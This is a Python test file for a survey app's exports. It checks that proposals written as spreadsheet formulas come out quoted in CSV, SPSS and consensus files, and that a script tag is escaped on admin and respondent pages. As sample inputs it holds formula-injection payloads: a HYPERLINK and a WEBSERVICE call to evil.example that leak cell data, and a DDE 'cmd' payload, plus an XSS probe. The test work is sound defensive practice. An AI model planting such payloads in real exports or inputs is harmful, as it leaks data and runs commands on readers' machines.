"""Exports that cannot attack their reader: proposals written as spreadsheet formulas reach
the CSV and SPSS files (admin downloads and ``consensus.csv``) as quoted text, numbers
stay numbers, and free text is escaped on every page that shows it."""

from __future__ import annotations

import csv
import dataclasses
import io

import httpx
import pandas as pd
import pyreadstat
import pytest

from tests.survey_helpers import Server, admin_headers
from tests.test_survey_http import Person

# What respondents type (the survey folds whitespace, so the tab-led one arrives as "=…").
FORMULAS = {
    "=1+1 is what the assistant should answer": "'=1+1 is what the assistant should answer",
    '\t=HYPERLINK("http://evil.example/?"&A2, "more")': "'=HYPERLINK(\"http://evil.example/?\"&A2, \"more\")",
    "+cmd|' /C calc'!A0 should be refused": "'+cmd|' /C calc'!A0 should be refused",
    "-2+3 and other sums should be shown": "'-2+3 and other sums should be shown",
    "@SUM(A1:A9) is how it should count": "'@SUM(A1:A9) is how it should count",
    "The assistant should say which sources it used.": "The assistant should say which sources it used.",
}
SCRIPT = "<script>alert(1)</script> should never run here"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    db = tmp_path_factory.mktemp("formulas") / "survey.db"
    with Server(f"sqlite:///{db}", "demo", "--rate-limit-ip", "0") as s:
        for text in [*FORMULAS, SCRIPT]:
            p = Person(s.url)
            p.consent()
            while 'name="proposal"' not in p.page.text:
                p.submit()
            assert p.submit({**p.answers(), "proposal": text}).url.path == "/done"
        yield s


def export(server: Server, fmt: str) -> bytes:
    r = httpx.get(server.url + f"/admin/export.{fmt}?include_excluded=true", headers=admin_headers())
    assert r.status_code == 200
    return r.content


def test_csv_and_spss_cells_that_would_be_formulas_are_quoted(server, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export(server, "csv").decode())))
    assert sorted(r["proposal"] for r in rows if r["proposal"] != SCRIPT) == sorted(FORMULAS.values())
    # Numbers stay numbers: the time and strength columns still parse as numbers.
    table = pd.read_csv(io.BytesIO(export(server, "csv")))
    assert pd.api.types.is_numeric_dtype(table["seconds"]) and all(pd.api.types.is_numeric_dtype(table[c]) for c in table.columns if c.endswith("_strength"))
    (tmp_path / "r.sav").write_bytes(export(server, "sav"))
    df, _ = pyreadstat.read_sav(str(tmp_path / "r.sav"))
    assert sorted(t for t in df["proposal"] if t != SCRIPT) == sorted(FORMULAS.values())
    # JSON is not read as formulas: it keeps what was written (whitespace folded).
    texts = {r["proposal"] for r in httpx.get(server.url + "/admin/export.json?include_excluded=true", headers=admin_headers()).json()}
    assert "=1+1 is what the assistant should answer" in texts and '=HYPERLINK("http://evil.example/?"&A2, "more")' in texts


def test_proposals_are_escaped_on_the_admin_pages_and_to_later_respondents(server):
    c = httpx.Client(base_url=server.url, headers=admin_headers())
    page = c.get("/admin/moderation").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; should never run here" in page and "<script>" not in page
    pid = next(p["id"] for p in c.get("/admin/api/proposals").json() if p["text"] == SCRIPT)
    assert c.post(f"/admin/api/proposals/{pid}", json={"status": "approved"}).status_code == 200
    later = Person(server.url)
    later.consent()
    seen = []
    while later.page.url.path != "/done":
        seen.append(later.page.text)
        later.submit()
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in t for t in seen) and not any("<script>" in t for t in seen)


def test_consensus_csv_quotes_statements_that_would_be_formulas(tmp_path):
    from tests.survey_stats_sim import margins, simulate
    from valign.survey.export import ExportSettings, export_artifacts
    from valign.survey.weighting import apply_weights, rake_frames

    frames = simulate(200, seed=3)
    inst, evil = frames.instrument, "=WEBSERVICE(\"http://evil.example/\") is a principle"
    items = [p.model_copy(update={"text": evil}) if p.id == "pr-warn" else p for p in inst.principles.items]  # the one the simulation answers
    inst = inst.model_copy(update={"principles": inst.principles.model_copy(update={"items": items})})
    frames = dataclasses.replace(frames, instrument=inst)
    result = rake_frames(frames, margins())
    export_artifacts(apply_weights(frames, result), result, tmp_path, ExportSettings(B=10, min_group_n=15))
    table = pd.read_csv(tmp_path / "consensus.csv")
    assert table.loc[table["item_id"] == "pr-warn", "text"].item() == "'=WEBSERVICE(\"http://evil.example/\") is a principle"
    assert pd.api.types.is_numeric_dtype(table["consensus"])
